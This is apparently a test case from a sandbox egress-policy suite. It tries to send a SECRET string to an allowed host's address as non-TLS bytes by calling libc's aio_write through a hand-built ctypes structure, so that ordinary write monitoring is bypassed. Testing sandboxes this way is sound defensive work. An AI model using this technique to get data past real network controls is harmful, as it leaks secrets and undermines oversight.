# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: bytes that are not TLS go to an allowed name's address by libc's asynchronous writing
# proof: word
# needs: resolver
import ctypes
import time

from attack import SECRET, at_allowed, attempt, libc


class Block(ctypes.Structure):
    _fields_ = [
        ("fd", ctypes.c_int),
        ("opcode", ctypes.c_int),
        ("priority", ctypes.c_int),
        ("buffer", ctypes.c_char_p),
        ("size", ctypes.c_size_t),
        ("rest", ctypes.c_char * 200),
    ]


def say(out):
    block = Block(fd=out.fileno(), buffer=SECRET.encode(), size=len(SECRET))
    # Without a way to be told: SIGEV_NONE is 1 in struct sigevent's third field.
    ctypes.c_int.from_buffer(block, Block.size.offset + 8 + 12).value = 1
    if libc().aio_write(ctypes.byref(block)) != 0:
        raise PermissionError
    time.sleep(0.3)


@attempt
def send():
    return at_allowed(say)
